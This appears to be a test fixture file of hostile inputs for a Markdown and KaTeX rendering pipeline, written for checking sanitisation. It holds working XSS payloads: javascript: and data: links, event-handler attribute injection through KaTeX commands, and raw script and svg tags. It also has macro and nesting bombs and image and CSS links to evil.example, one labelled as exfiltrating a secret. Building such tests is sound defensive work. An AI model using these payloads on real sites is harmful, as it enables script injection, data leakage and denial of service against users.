/**
 * Hostile inputs for the rendering pipeline: the KaTeX advisory payloads (CVE-2024-28243/
 * 28244/28245/28246, CVE-2025-23207), macro bombs, a nesting bomb with HTML behind it, raw
 * HTML and scripts in Markdown, script and data links, remote images. Every payload that
 * could run would set `window.pwned` or open a dialog; the tests check for both.
 */
const RUN = 'window.pwned=1;alert(1)';

/** 50,000 nested braces: deep enough to overflow KaTeX's parser (a RangeError) if not guarded. */
export const BRACE_BOMB = `$${'{'.repeat(50_000)}x${'}'.repeat(50_000)}$ <img src=x onerror="${RUN}">`;

/** `\edef` doubling its own expansion thirty times: 2^30 tokens if expanded. */
const EDEF_BOMB = `$\\def\\x{ab}${'\\edef\\x{\\x\\x}'.repeat(30)}\\x$`;

export const KATEX_PAYLOADS = [
  `$\\href{javascript:${RUN}}{href}$`,
  `\\(\\href{JaVaScRiPt:${RUN}}{mixed case}\\)`,
  `$\\href{  java\tscript:${RUN}}{spaced}$`,
  `$\\url{javascript:${RUN}}$`,
  `\\[\\includegraphics[height=1em]{x" onerror="${RUN}}\\]`,
  `$\\htmlData{x=1" onmouseover="${RUN}}{data}$`,
  `$\\htmlStyle{background:url(https://evil.example/x.png)}{style}$`,
  `$\\htmlClass{x" onclick="${RUN}}{class}$`,
  `$\\htmlId{x" onfocus="${RUN}" autofocus="}{id}$`,
  '$\\rule{9999em}{9999em}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{xxxxxxxx}\\a\\a\\a\\a$',
  EDEF_BOMB,
  '$\\gdef\\R{\\text{redefined}}\\R$ and later $\\R$',
];

export const MARKDOWN_PAYLOADS = [
  `Raw HTML: <img src=x onerror="${RUN}"> <svg onload="${RUN}"></svg> <iframe src="javascript:${RUN}"></iframe>`,
  `<script>${RUN}</script>`,
  `<a href="javascript:${RUN}">raw anchor</a> <form action="javascript:${RUN}"><button>go</button></form>`,
  `[script link](javascript:${RUN}) [mixed](JaVaScRiPt:${RUN}) [data link](data:text/html,<script>${RUN}</script>) [vb](vbscript:msgbox(1))`,
  `<javascript:${RUN}> and [ref][evil]\n\n[evil]: javascript:${RUN}`,
  '![exfiltrate](https://evil.example/collect?q=secret) ![tracker](//evil.example/pixel.gif)',
  `![svg](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>)`,
  '<style>body{background:url(https://evil.example/css)}</style>',
];

/** One document with every payload, each in its own paragraph, and some honest math. */
export const HOSTILE_MARKDOWN = [
  'Let \\(x \\in \\mathbb{R}\\) with $x^2 = 2$.',
  ...KATEX_PAYLOADS,
  ...MARKDOWN_PAYLOADS,
  BRACE_BOMB,
  'The end: $\\frac{1}{2}$.',
].join('\n\n');

/** A one-line version for titles, quotes and other inline places. */
export const HOSTILE_LINE = `Title $\\href{javascript:${RUN}}{x}$ <img src=x onerror="${RUN}"> [l](javascript:${RUN}) \\(\\url{javascript:${RUN}}\\)`;
